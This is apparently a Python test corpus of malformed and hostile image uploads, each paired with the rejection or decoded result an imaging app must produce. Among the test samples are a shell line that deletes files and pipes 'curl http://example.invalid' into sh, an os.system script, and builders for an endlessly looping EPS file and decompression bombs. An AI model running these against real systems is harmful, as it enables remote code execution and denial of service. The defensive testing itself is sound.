"""A corpus of bad and odd uploads, generated in memory, with the outcome each one must have.

Each :class:`Case` names a file as a user would upload it, builds its bytes on demand and
states what must happen: :class:`Reads` (a grey image of a given shape, plus one property in
words and as a check) or :class:`Rejected` (an ``ImageReadError`` whose message contains the
given text). ``tests/core/test_bad_input_corpus.py`` sends every case through
``core.imaging.read_image`` and the classifier, ``tests/app/test_bad_uploads.py`` through the
Classify and Batch pages. Nothing is written to disk; the only file read is scikit-learn's
bundled sample photograph.

``python tests/corpus.py`` prints the Markdown table kept in ``docs/robustness.md``.
"""

from __future__ import annotations

import io
import mimetypes
import struct
import zipfile
import zlib
from collections import Counter
from dataclasses import dataclass
from typing import Callable

import numpy as np
from PIL import Image

EXPECTED = "expected an image file"
MB = 1024 * 1024  # a megabyte as Streamlit's server counts it for server.maxUploadSize


# --- expected outcomes ---------------------------------------------------------------------

@dataclass(frozen=True)
class Reads:
    """The file must decode to a finite float32 (H, W) array in [0, 1] of ``shape``.

    ``check`` asserts the one property ``what`` states (raises ``AssertionError``).
    """

    shape: tuple[int, int]
    what: str
    check: Callable[[np.ndarray], None]


@dataclass(frozen=True)
class Rejected:
    """The file must raise ``ImageReadError`` whose message contains ``message``."""

    message: str


@dataclass(frozen=True)
class Case:
    name: str  # test id
    file_name: str  # as uploaded
    sent: str  # what is sent, in words
    make: Callable[[], bytes]
    expected: Reads | Rejected

    @property
    def mime(self) -> str:
        """The type a browser would send, guessed from the name like a browser does."""
        return mimetypes.guess_type(self.file_name)[0] or "application/octet-stream"


# --- checks on a read image ----------------------------------------------------------------

def _close(expected, atol: float) -> Callable[[np.ndarray], None]:
    def check(image: np.ndarray) -> None:
        np.testing.assert_allclose(image, expected() if callable(expected) else expected, atol=atol)
    return check


def _marker(tol: float = 0.06) -> Callable[[np.ndarray], None]:
    """The marker image's bright top-left block is top-left, i.e. the image is upright."""
    def check(image: np.ndarray) -> None:
        assert abs(image[2, 2] - 230 / 255) < tol, f"top-left should be bright, got {image[2, 2]:.3f}"
        assert abs(image[-3, -3] - 30 / 255) < tol, f"bottom-right should be dark, got {image[-3, -3]:.3f}"
    return check


def _matches(reference: Callable[[], np.ndarray], mean_tol: float) -> Callable[[np.ndarray], None]:
    def check(image: np.ndarray) -> None:
        expected = reference()
        assert image.shape == expected.shape, f"{image.shape} != {expected.shape}"
        error = float(np.abs(image - expected).mean())
        assert error < mean_tol, f"mean absolute difference {error:.4f} >= {mean_tol}"
    return check


def _top_left_matches(full: Callable[[], np.ndarray], rows: int, cols: int | None = None
                      ) -> Callable[[np.ndarray], None]:
    """The part of a cut JPEG that arrived decodes exactly as in the complete file."""
    def check(image: np.ndarray) -> None:
        np.testing.assert_allclose(image[:rows, :cols], full()[:rows, :cols], atol=1e-6)
    return check


def _constant(value: float) -> Callable[[np.ndarray], None]:
    def check(image: np.ndarray) -> None:
        np.testing.assert_allclose(image, value, atol=1e-6)
    return check


# --- builders ------------------------------------------------------------------------------

def encode(img: Image.Image, fmt: str, **kw) -> bytes:
    buffer = io.BytesIO()
    img.save(buffer, fmt, **kw)
    return buffer.getvalue()


def marker_image(h: int = 40, w: int = 60, mode: str = "L") -> Image.Image:
    """Dark (30) image with a bright (230) block in the top-left corner: asymmetric on purpose."""
    pixels = np.full((h, w), 30, np.uint8)
    pixels[: h // 3, : w // 3] = 230
    return Image.fromarray(pixels).convert(mode)


def marker_array(h: int = 40, w: int = 60) -> np.ndarray:
    return np.asarray(marker_image(h, w), np.float32) / 255


def noise(h: int, w: int, seed: int) -> np.ndarray:
    return np.random.default_rng(seed).integers(0, 256, (h, w), dtype=np.uint8)


def random_bytes(n: int, seed: int) -> bytes:
    return noise(1, n, seed).tobytes()


def noisy_png() -> bytes:
    return encode(Image.fromarray(noise(64, 64, 1)), "PNG")


def noisy_jpeg() -> bytes:
    return encode(Image.fromarray(noise(96, 128, 0)), "JPEG", quality=90)


def decoded_jpeg() -> np.ndarray:
    return np.asarray(Image.open(io.BytesIO(noisy_jpeg())), np.float32) / 255


def cut(make: Callable[[], bytes], fraction: float | None = None, at: int | None = None) -> Callable[[], bytes]:
    def make_cut() -> bytes:
        data = make()
        return data[: at if at is not None else int(len(data) * fraction)]
    return make_cut


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_declaring(w: int, h: int) -> bytes:
    """A 100-byte PNG whose IHDR declares w×h (1-bit grey) with a few bytes of IDAT."""
    ihdr = struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr)
            + png_chunk(b"IDAT", zlib.compress(b"\0" * 64)) + png_chunk(b"IEND", b""))


def png_with_corrupt_idat() -> bytes:
    """A whole PNG (valid CRCs) whose compressed pixel stream is garbage."""
    ihdr = struct.pack(">IIBBBBB", 32, 32, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr)
            + png_chunk(b"IDAT", random_bytes(300, 7)) + png_chunk(b"IEND", b""))


def jpeg_declaring(w: int, h: int) -> bytes:
    """An 8×8 JPEG whose start-of-frame header is patched to declare w×h."""
    data = bytearray(encode(Image.new("L", (8, 8), 128), "JPEG"))
    sof = data.find(b"\xff\xc0")
    data[sof + 5: sof + 9] = struct.pack(">HH", h, w)
    return bytes(data)


def gif_declaring(w: int, h: int) -> bytes:
    """An 8×8 GIF whose logical screen and image descriptor are patched to declare w×h."""
    data = bytearray(encode(Image.new("L", (8, 8), 128).convert("P"), "GIF"))
    data[6:10] = struct.pack("<HH", w, h)
    descriptor = data.find(b"\x2c\x00\x00\x00\x00")  # image separator at position (0, 0)
    data[descriptor + 5: descriptor + 9] = struct.pack("<HH", w, h)
    return bytes(data)


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xray.png", encode(marker_image(), "PNG"))
    return buffer.getvalue()


def pdf_bytes() -> bytes:
    return (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")


def exif_rotated_jpeg(orientation: int, stored_rotation: Image.Transpose) -> bytes:
    """The upright marker image stored turned, with the EXIF tag that says how to turn it back."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encode(marker_image().transpose(stored_rotation), "JPEG", quality=95, exif=exif.tobytes())


def upright_jpeg_reference() -> np.ndarray:
    return np.asarray(Image.open(io.BytesIO(encode(marker_image(), "JPEG", quality=95))), np.float32) / 255


def china_jpeg() -> bytes:
    from sklearn.datasets import load_sample_image

    return encode(Image.fromarray(load_sample_image("china.jpg")), "JPEG", quality=90)


def china_luma() -> np.ndarray:
    return np.asarray(Image.open(io.BytesIO(china_jpeg())).convert("L"), np.float32) / 255


def palette_with_transparency() -> bytes:
    img = Image.new("P", (3, 1))
    img.putpalette([255, 255, 255, 255, 255, 255, 0, 0, 0] + [0] * 759)
    img.putdata([0, 1, 2])
    return encode(img, "PNG", transparency=0)  # index 0 is white but fully transparent


def grey_alpha_png() -> bytes:
    pixels = np.array([[[200, 0], [200, 255], [100, 255]]], np.uint8)  # (grey, alpha)
    return encode(Image.fromarray(pixels, "LA"), "PNG")


def sixteen_bit(fmt: str) -> bytes:
    return encode(Image.fromarray(np.array([[0, 32768, 65535, 1]], np.uint16)), fmt)


def float_tiff(values) -> bytes:
    return encode(Image.fromarray(np.asarray(values, np.float32), "F"), "TIFF")


def animated_gif() -> bytes:
    first, second = marker_image(), marker_image().transpose(Image.Transpose.ROTATE_180)
    return encode(first.convert("P"), "GIF", save_all=True, append_images=[second.convert("P")],
                  duration=100, loop=0)


def multipage_tiff() -> bytes:
    first, second = marker_image(), marker_image().transpose(Image.Transpose.ROTATE_180)
    return encode(first, "TIFF", save_all=True, append_images=[second])


def padded_png(total: int) -> bytes:
    """A valid 8×8 PNG followed by zeros up to ``total`` bytes (decoders ignore data after IEND)."""
    png = encode(Image.new("L", (8, 8), 128), "PNG")
    return png + bytes(total - len(png))


def dicom_bytes(pixels=None, *, photometric="MONOCHROME2", ts=None, pixel_data=None, **tags) -> bytes:
    """A Digital X-Ray DICOM file, 16-bit unsigned, built with pydicom in memory."""
    from pydicom.dataset import Dataset, FileMetaDataset
    from pydicom.uid import ExplicitVRLittleEndian

    pixels = np.zeros((8, 8), np.uint16) if pixels is None else np.asarray(pixels, np.uint16)
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.1.1"  # Digital X-Ray for presentation
    meta.MediaStorageSOPInstanceUID = "1.2.3.4.5.6.7.8.9"  # fixed: the bytes are reproducible
    meta.TransferSyntaxUID = ts or ExplicitVRLittleEndian
    ds = Dataset()
    ds.file_meta = meta
    ds.SOPClassUID, ds.SOPInstanceUID = meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID
    ds.Modality = "DX"
    ds.Rows, ds.Columns = pixels.shape[-2:]
    ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, photometric
    ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 16, 16, 15, 0
    if pixels.ndim == 3:
        ds.NumberOfFrames = pixels.shape[0]
    if pixel_data is not False:
        ds.PixelData = pixels.tobytes() if pixel_data is None else pixel_data
    for key, value in tags.items():
        setattr(ds, key, value)
    buffer = io.BytesIO()
    ds.save_as(buffer, enforce_file_format=True)
    return buffer.getvalue()


def bright_left(h: int = 6, w: int = 8, lo: int = 100, hi: int = 4000) -> np.ndarray:
    pixels = np.full((h, w), lo, np.uint16)
    pixels[:, : w // 2] = hi
    return pixels


def bright_left_expected(h: int = 6, w: int = 8) -> np.ndarray:
    expected = np.zeros((h, w), np.float32)
    expected[:, : w // 2] = 1
    return expected


def _uid(name: str):
    import pydicom.uid

    return getattr(pydicom.uid, name)


def junk_compressed_dicom(ts_name: str) -> Callable[[], bytes]:
    def make() -> bytes:
        import pydicom.uid
        from pydicom.encaps import encapsulate

        junk = encapsulate([b"\x00junk-not-a-codestream" * 4])
        return dicom_bytes(ts=getattr(pydicom.uid, ts_name), pixel_data=junk)
    return make


# --- hostile files of the second round (issue 13) ------------------------------------------------
# Small files that a careless reader turns into Ghostscript runs, gigabytes or a numpy traceback.
# tests/core/test_hostile_inputs.py and test_memory_budget.py use them; the large ones are only
# ever built in a test's temporary directory.

EPS_PREAMBLE = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n{} loop\n"  # gs would spin for ever


def with_preamble(data: bytes, preamble: bytes) -> bytes:
    """A DICOM file (``DICM`` at byte 128) whose 128-byte preamble holds ``preamble``."""
    assert data[128:132] == b"DICM" and len(preamble) <= 128
    return preamble.ljust(128, b"\0") + data[128:]


def tiff_header(width: int, height: int, *, rgb: bool = False, strip_bytes: int = 0) -> bytes:
    """A classic little-endian TIFF header and directory, at most 128 bytes, for an uncompressed
    8-bit grey (or RGB) image whose single strip starts at byte 0 of the file."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (259, 3, 1, 1), (262, 3, 1, 2 if rgb else 1),
               (273, 4, 1, 0), (277, 3, 1, 3 if rgb else 1), (278, 4, 1, height),
               (279, 4, 1, strip_bytes or width * height * (3 if rgb else 1))]
    end = 8 + 2 + 12 * (len(entries) + 1) + 4
    entries.append((258, 3, 3, end) if rgb else (258, 3, 1, 8))  # three BitsPerSample values live after the directory
    directory = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    header = b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", len(entries)) + directory + b"\0" * 4
    return header + (struct.pack("<HHH", 8, 8, 8) if rgb else b"")


def float64_tiff(height: int = 4, width: int = 5) -> bytes:
    """An uncompressed grey TIFF of 64-bit float samples (SampleFormat 3), which Pillow cannot read."""
    pixels = np.linspace(-1.0, 1.0, height * width).reshape(height, width).astype("<f8").tobytes()
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 64), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 0), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, len(pixels)), (339, 3, 1, 3)]
    start = 8 + 2 + 12 * len(entries) + 4
    entries = [(tag, kind, n, start if tag == 273 else value) for tag, kind, n, value in entries]
    directory = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", len(entries)) + directory + b"\0" * 4 + pixels


def encapsulated_dicom(frame: bytes, ts_name: str, rows: int, columns: int, *, bits: int = 8,
                       samples: int = 1, photometric: str = "MONOCHROME2") -> bytes:
    """A DICOM whose pixel data is ``frame``, encapsulated under the named transfer syntax."""
    import pydicom.uid
    from pydicom.encaps import encapsulate

    colour = {"PlanarConfiguration": 0} if samples > 1 else {}
    return dicom_bytes(ts=getattr(pydicom.uid, ts_name), pixel_data=encapsulate([frame]), photometric=photometric,
                       Rows=rows, Columns=columns, SamplesPerPixel=samples,
                       BitsAllocated=bits, BitsStored=bits, HighBit=bits - 1, **colour)


def jpeg_in_dicom(image_size: tuple[int, int], rows: int, columns: int) -> bytes:
    """JPEG Baseline DICOM whose codestream is image_size (w, h) while its header says Rows × Columns."""
    frame = encode(Image.new("L", image_size, 100), "JPEG")
    return encapsulated_dicom(frame, "JPEGBaseline8Bit", rows, columns)


def j2k_in_dicom(image_size: tuple[int, int], rows: int, columns: int, *,
                 declare: tuple[int, int] | None = None) -> bytes:
    """JPEG 2000 Lossless DICOM whose codestream is image_size (w, h), or claims ``declare`` (w, h)
    in its SIZ marker, while the DICOM header says Rows × Columns."""
    frame = bytearray(encode(Image.new("L", image_size, 100), "JPEG2000", no_jp2=True))
    if declare is not None:
        frame[8:16] = struct.pack(">II", *declare)  # Xsiz, Ysiz of the SIZ marker
    return encapsulated_dicom(bytes(frame), "JPEG2000Lossless", rows, columns)


def rle_frame(segments: list[bytes]) -> bytes:
    """An RLE Lossless frame: the 64-byte header of segment offsets, then the segments."""
    offsets, position = [], 64
    for segment in segments:
        offsets.append(position)
        position += len(segment)
    return struct.pack("<16I", len(segments), *offsets, *[0] * (15 - len(segments))) + b"".join(segments)


def rle_constant_segment(length: int, value: int = 0) -> bytes:
    """PackBits for ``length`` copies of one byte: runs of 128 (two bytes each)."""
    runs, rest = divmod(length, 128)
    tail = bytes([257 - rest, value]) if rest > 1 else (bytes([0, value]) if rest else b"")
    return bytes([129, value]) * runs + tail


def rle_bomb_dicom(rows: int = 64, columns: int = 64, pairs: int = 50_000) -> bytes:
    """8-bit RLE DICOM whose one segment decodes to 128 × pairs bytes, not Rows × Columns."""
    frame = rle_frame([bytes([129, 7]) * pairs])
    return encapsulated_dicom(frame, "RLELossless", rows, columns)


def rle_dicom(rows: int, columns: int, *, bits: int = 16) -> bytes:
    """A valid RLE DICOM of a constant grey image: tiny on disk, Rows × Columns × bits when decoded."""
    segments = [rle_constant_segment(rows * columns, value) for value in (0x08, 0x00)[: bits // 8]]
    return encapsulated_dicom(rle_frame(segments), "RLELossless", rows, columns, bits=bits)


def deflate_bomb_dicom(inflated_bytes: int = 51 * MB) -> bytes:
    """A Deflated Explicit VR Little Endian DICOM whose deflated stream declares a 2 GB PixelData
    element and inflates to ``inflated_bytes`` of zeros, from about 1/1000 of that on disk."""
    from pydicom.uid import DeflatedExplicitVRLittleEndian

    data = dicom_bytes(bright_left(), ts=DeflatedExplicitVRLittleEndian)
    meta_end = 144 + struct.unpack_from("<I", data, 140)[0]  # after (0002,0000) File Meta Information Group Length
    dataset = zlib.decompress(data[meta_end:], -zlib.MAX_WBITS)
    head = dataset[: dataset.index(b"\xe0\x7f\x10\x00")]  # every element before PixelData
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = deflater.compress(head + b"\xe0\x7f\x10\x00OW\x00\x00" + struct.pack("<I", 2**31 - 2))
    start += deflater.flush(zlib.Z_FULL_FLUSH)
    # After a full flush no block refers to earlier data, so one compressed megabyte of zeros
    # can be repeated: a 2 GB bomb is built in milliseconds.
    zeros = deflater.compress(bytes(MB)) + deflater.flush(zlib.Z_FULL_FLUSH)
    return data[:meta_end] + start + zeros * (inflated_bytes // MB) + deflater.flush()


def constant_png(width: int, height: int, pixel: bytes, *, colour_type: int, bit_depth: int = 8,
                 palette: bytes = b"", transparency: bytes = b"") -> bytes:
    """A PNG of one repeated pixel, compressed row by row: a 60 MP image in a few hundred KB
    without ever holding it decoded (colour types: 0 grey, 2 RGB, 3 palette, 4 grey+alpha, 6 RGBA)."""
    deflater = zlib.compressobj(9)
    row = b"\0" + pixel * width  # filter type 0, then the samples
    stream = b"".join(deflater.compress(row) for _ in range(height)) + deflater.flush()
    chunks = [png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0))]
    chunks += [png_chunk(b"PLTE", palette)] if palette else []
    chunks += [png_chunk(b"tRNS", transparency)] if transparency else []
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + png_chunk(b"IDAT", stream) + png_chunk(b"IEND", b"")


def frame_too_large_dicom() -> bytes:
    """A native DICOM declaring 6000 × 6000 × 3 samples × 16 bits (206 MB per frame), 8×8 of it present."""
    return dicom_bytes(bright_left(), photometric="RGB", Rows=6000, Columns=6000, SamplesPerPixel=3,
                       PlanarConfiguration=0)


# --- the corpus ----------------------------------------------------------------------------

PYTHON_SCRIPT = b"#!/usr/bin/env python3\nimport os\nos.system('echo pwned')\n"
SHELL_SCRIPT = b"#!/bin/sh\nrm -rf /tmp/x && curl http://example.invalid | sh\n"
HTML = b"<!DOCTYPE html><html><head><title>Login</title></head><body>Sign in</body></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nnewpath 0 0 moveto 10 10 lineto stroke\n"
TOO_BIG = 51 * MB

CASES: list[Case] = [
    # Not images at all.
    Case("empty", "empty.png", "0 bytes", lambda: b"", Rejected("got 0 bytes")),
    Case("one-byte", "one.png", "1 byte (0x89)", lambda: b"\x89", Rejected("got 1 byte from")),
    Case("random-png", "noise.png", "4096 random bytes named .png", lambda: random_bytes(4096, 2),
         Rejected("got 4096 bytes from")),
    Case("random-jpg", "noise.jpg", "4096 random bytes named .jpg", lambda: random_bytes(4096, 3),
         Rejected("got 4096 bytes from")),
    Case("random-dcm", "noise.dcm", "4096 random bytes named .dcm", lambda: random_bytes(4096, 4),
         Rejected("got 4096 bytes from")),
    Case("random-after-dicm", "junk.dcm", "128-byte preamble + `DICM` + 2048 random bytes",
         lambda: bytes(128) + b"DICM" + random_bytes(2048, 5), Rejected("DICOM file has no pixel data")),
    Case("html-as-png", "xray.png", "an HTML login page named .png", lambda: HTML,
         Rejected("looks like an HTML/XML text document")),
    Case("svg-as-png", "drawing.png", "an SVG drawing named .png", lambda: SVG,
         Rejected("looks like an HTML/XML text document")),
    Case("json-as-png", "data.png", "a JSON document named .png", lambda: b'{"image": "xray.png"}',
         Rejected("looks like a JSON text document")),
    Case("python-as-png", "script.png", "a Python script named .png", lambda: PYTHON_SCRIPT,
         Rejected("start with '#!/usr/bin/env p'")),
    Case("shell-as-png", "run.png", "a shell script named .png", lambda: SHELL_SCRIPT,
         Rejected("start with '#!/bin/sh\\nrm -rf'")),
    Case("zip-as-jpg", "scans.jpg", "a ZIP archive (holding a PNG) named .jpg", zip_bytes,
         Rejected("looks like a ZIP archive")),
    Case("pdf-as-png", "report.png", "a PDF document named .png", pdf_bytes, Rejected("looks like a PDF document")),
    Case("eps-as-png", "figure.png", "an EPS (PostScript) file named .png: its plugin is not allowed", lambda: EPS,
         Rejected("start with '%!PS-Adobe-3.0 E'")),
    Case("ico", "favicon.ico", "a valid ICO icon (a Pillow format, not an allowed one)",
         lambda: encode(marker_image(32, 32), "ICO"), Rejected(EXPECTED)),
    # Truncated files (an interrupted upload).
    Case("png-signature-only", "cut.png", "the 8-byte PNG signature alone", cut(noisy_png, at=8),
         Rejected("looks like a damaged PNG")),
    Case("png-cut-in-ihdr", "cut.png", "a PNG cut at byte 20, inside IHDR", cut(noisy_png, at=20),
         Rejected("is truncated or has a broken header")),
    Case("png-cut-10", "cut.png", "a 64×64 noise PNG cut at 10%", cut(noisy_png, 0.1), Rejected("is truncated")),
    Case("png-cut-50", "cut.png", "the same PNG cut at 50%", cut(noisy_png, 0.5), Rejected("is truncated")),
    Case("png-cut-90", "cut.png", "the same PNG cut at 90%", cut(noisy_png, 0.9), Rejected("is truncated")),
    Case("png-corrupt-idat", "corrupt.png", "a PNG with valid CRCs whose pixel stream is random bytes",
         png_with_corrupt_idat, Rejected("is truncated or corrupt")),
    Case("jpeg-cut-in-soi", "cut.jpg", "a JPEG cut at byte 20, inside its first header", cut(noisy_jpeg, at=20),
         Rejected("looks like a JPEG cut short or damaged")),
    Case("jpeg-cut-in-tables", "cut.jpg", "a JPEG cut at byte 200, inside its tables", cut(noisy_jpeg, at=200),
         Rejected("is truncated or has a broken header")),
    Case("jpeg-cut-10", "cut.jpg", "a 96×128 noise JPEG cut at 10%", cut(noisy_jpeg, 0.1),
         Reads((96, 128), "full size; the 8×64 block that arrived equals the complete image's",
               _top_left_matches(decoded_jpeg, 8, 64))),
    Case("jpeg-cut-50", "cut.jpg", "the same JPEG cut at 50%", cut(noisy_jpeg, 0.5),
         Reads((96, 128), "full size; the first 40 rows equal the complete image's",
               _top_left_matches(decoded_jpeg, 40))),
    Case("jpeg-cut-90", "cut.jpg", "the same JPEG cut at 90%", cut(noisy_jpeg, 0.9),
         Reads((96, 128), "full size; the first 80 rows equal the complete image's",
               _top_left_matches(decoded_jpeg, 80))),
    # Decompression bombs: a small file that declares an enormous image.
    Case("png-bomb-900mp", "bomb.png", "a 100-byte PNG declaring 30000×30000", lambda: png_declaring(30000, 30000),
         Rejected("30000×30000 = 900.0 MP; the limit is 60.0 MP")),
    Case("png-bomb-70mp", "bomb.png", "a 100-byte PNG declaring 10000×7000 (under Pillow's own limit)",
         lambda: png_declaring(10000, 7000), Rejected("10000×7000 = 70.0 MP; the limit is 60.0 MP")),
    Case("jpeg-bomb", "bomb.jpg", "an 8×8 JPEG patched to declare 65500×65500",
         lambda: jpeg_declaring(65500, 65500), Rejected("65500×65500 = 4290.2 MP; the limit is 60.0 MP")),
    Case("gif-bomb", "bomb.gif", "an 8×8 GIF patched to declare 65535×65535",
         lambda: gif_declaring(65535, 65535), Rejected("65535×65535 = 4294.8 MP; the limit is 60.0 MP")),
    Case("dicom-bomb", "bomb.dcm", "a DICOM declaring Rows = Columns = 30000 with 128 bytes of pixels",
         lambda: dicom_bytes(Rows=30000, Columns=30000), Rejected("30000×30000 = 900.0 MP; the limit is 60.0 MP")),
    Case("over-upload-limit", "huge.png", "a valid 8×8 PNG padded with zeros to 51 MiB (53,477,376 bytes)",
         lambda: padded_png(TOO_BIG), Rejected("the upload is 51.0 MB (53,477,376 bytes); the limit is 50.0 MB")),
    # Sizes.
    Case("1x1", "dot.png", "a 1×1 white PNG", lambda: encode(Image.new("L", (1, 1), 255), "PNG"),
         Reads((1, 1), "the pixel is 1.0", _constant(1.0))),
    Case("8x8", "tiny.png", "an 8×8 marker PNG", lambda: encode(marker_image(8, 8), "PNG"),
         Reads((8, 8), "equals pixels / 255", _close(lambda: marker_array(8, 8), 1e-6))),
    Case("20000x20", "wide.png", "a 20000×20 (w×h) marker PNG", lambda: encode(marker_image(20, 20000), "PNG"),
         Reads((20, 20000), "equals pixels / 255", _close(lambda: marker_array(20, 20000), 1e-6))),
    Case("20x20000", "tall.png", "a 20×20000 (w×h) marker PNG", lambda: encode(marker_image(20000, 20), "PNG"),
         Reads((20000, 20), "equals pixels / 255", _close(lambda: marker_array(20000, 20), 1e-6))),
    # Pixel formats.
    Case("png-16bit", "deep.png", "a 16-bit grey PNG [0, 32768, 65535, 1]", lambda: sixteen_bit("PNG"),
         Reads((1, 4), "value / 65535: 1 is above 0 (16-bit precision kept)",
               _close(np.array([[0, 32768 / 65535, 1, 1 / 65535]]), 1e-6))),
    Case("tiff-16bit", "deep.tif", "the same values as a 16-bit TIFF", lambda: sixteen_bit("TIFF"),
         Reads((1, 4), "value / 65535: 1 is above 0 (16-bit precision kept)",
               _close(np.array([[0, 32768 / 65535, 1, 1 / 65535]]), 1e-6))),
    Case("cmyk-jpeg", "print.jpg", "the marker as a CMYK JPEG",
         lambda: encode(marker_image(mode="CMYK"), "JPEG", quality=95),
         Reads((40, 60), "marker top-left, levels within 0.06", _marker())),
    Case("palette-transparency", "palette.png", "a 3×1 palette PNG, index 0 white and transparent",
         palette_with_transparency, Reads((1, 3), "[0, 1, 0]: transparent white becomes black",
                                          _close(np.array([[0, 1, 0]]), 1e-3))),
    Case("grey-alpha", "la.png", "a grey+alpha PNG: (200, α0), (200, α255), (100, α255)", grey_alpha_png,
         Reads((1, 3), "composited on black: [0, 200/255, 100/255]",
               _close(np.array([[0, 200 / 255, 100 / 255]]), 1e-3))),
    Case("rgba", "rgba.png", "the marker as an opaque RGBA PNG", lambda: encode(marker_image(mode="RGBA"), "PNG"),
         Reads((40, 60), "equals pixels / 255", _close(marker_array, 1e-3))),
    Case("bilevel", "bw.png", "a 1-bit PNG [0, 1]",
         lambda: encode(Image.fromarray(np.array([[0, 255]], np.uint8)).convert("1"), "PNG"),
         Reads((1, 2), "[0, 1]", _close(np.array([[0, 1]]), 0))),
    Case("float-tiff", "float.tif", "a 32-bit float TIFF [-5, 0, 5]", lambda: float_tiff([[-5.0, 0.0, 5.0]]),
         Reads((1, 3), "min-max scaled: [0, 0.5, 1]", _close(np.array([[0, 0.5, 1]]), 1e-6))),
    Case("float-tiff-nan", "nan.tif", "a float TIFF that is all NaN", lambda: float_tiff(np.full((3, 3), np.nan)),
         Rejected("has no finite pixel values")),
    Case("all-black", "black.png", "a 64×64 all-black PNG", lambda: encode(Image.new("L", (64, 64), 0), "PNG"),
         Reads((64, 64), "all 0", _constant(0.0))),
    Case("all-white-jpeg", "white.jpg", "a 64×64 all-white JPEG",
         lambda: encode(Image.new("L", (64, 64), 255), "JPEG"),
         Reads((64, 64), "all 1", _constant(1.0))),
    Case("constant-float", "flat.tif", "a constant float TIFF (7.0 everywhere)",
         lambda: float_tiff(np.full((4, 5), 7.0)),
         Reads((4, 5), "all 0 (no division by zero)", _constant(0.0))),
    # Containers and orientation.
    Case("animated-gif", "cine.gif", "a 2-frame GIF, second frame turned 180°", animated_gif,
         Reads((40, 60), "first frame: marker top-left", _marker())),
    Case("multipage-tiff", "pages.tif", "a 2-page TIFF, second page turned 180°", multipage_tiff,
         Reads((40, 60), "first page: marker top-left", _marker())),
    Case("exif-rotate-90", "phone.jpg", "the marker stored turned 90° with EXIF Orientation 6",
         lambda: exif_rotated_jpeg(6, Image.Transpose.ROTATE_90),
         Reads((40, 60), "upright: matches the unrotated JPEG (mean error < 0.01)",
               _matches(upright_jpeg_reference, 0.01))),
    Case("exif-rotate-270", "phone.jpg", "the marker stored turned 270° with EXIF Orientation 8",
         lambda: exif_rotated_jpeg(8, Image.Transpose.ROTATE_270),
         Reads((40, 60), "upright: matches the unrotated JPEG (mean error < 0.01)",
               _matches(upright_jpeg_reference, 0.01))),
    Case("exif-rotate-180", "phone.jpg", "the marker stored turned 180° with EXIF Orientation 3",
         lambda: exif_rotated_jpeg(3, Image.Transpose.ROTATE_180),
         Reads((40, 60), "upright: matches the unrotated JPEG (mean error < 0.01)",
               _matches(upright_jpeg_reference, 0.01))),
    Case("colour-photo", "china.jpg", "scikit-learn's sample photograph china.jpg (RGB, 640×427) as JPEG",
         china_jpeg, Reads((427, 640), "ITU-R 601 luma of the decoded photo", _close(china_luma, 1.01 / 255))),
    Case("bmp", "scan.bmp", "the marker as BMP", lambda: encode(marker_image(), "BMP"),
         Reads((40, 60), "equals pixels / 255", _close(marker_array, 1e-6))),
    Case("webp-lossless", "scan.webp", "the marker as lossless WebP",
         lambda: encode(marker_image(), "WEBP", lossless=True),
         Reads((40, 60), "equals pixels / 255", _close(marker_array, 1e-6))),
    Case("webp-lossy", "scan.webp", "the marker as lossy WebP (quality 90)",
         lambda: encode(marker_image(), "WEBP", quality=90),
         Reads((40, 60), "marker top-left, levels within 0.06", _marker())),
    # DICOM.
    Case("dicom", "IM0001.dcm", "16-bit MONOCHROME2 DICOM, left half bright", lambda: dicom_bytes(bright_left()),
         Reads((6, 8), "left half 1, right half 0", _close(bright_left_expected, 0))),
    Case("dicom-no-preamble", "IM0001", "the same without preamble and `DICM` (old ACR-NEMA style), no extension",
         lambda: dicom_bytes(bright_left())[132:],
         Reads((6, 8), "left half 1, right half 0", _close(bright_left_expected, 0))),
    Case("dicom-monochrome1", "IM0002.dcm", "the same pixels as MONOCHROME1 (high value = dark)",
         lambda: dicom_bytes(bright_left(), photometric="MONOCHROME1"),
         Reads((6, 8), "inverted: left half 0, right half 1", _close(lambda: 1 - bright_left_expected(), 0))),
    Case("dicom-rescale", "IM0003.dcm", "RescaleSlope = -1, RescaleIntercept = 0",
         lambda: dicom_bytes(bright_left(), RescaleSlope=-1, RescaleIntercept=0),
         Reads((6, 8), "inverted: left half 0, right half 1", _close(lambda: 1 - bright_left_expected(), 0))),
    Case("dicom-window", "IM0004.dcm", "pixels [0, 100, 500, 1000, 4000] with WindowCenter 500, WindowWidth 200",
         lambda: dicom_bytes(np.array([[0, 100, 500, 1000, 4000]]), WindowCenter=500, WindowWidth=200),
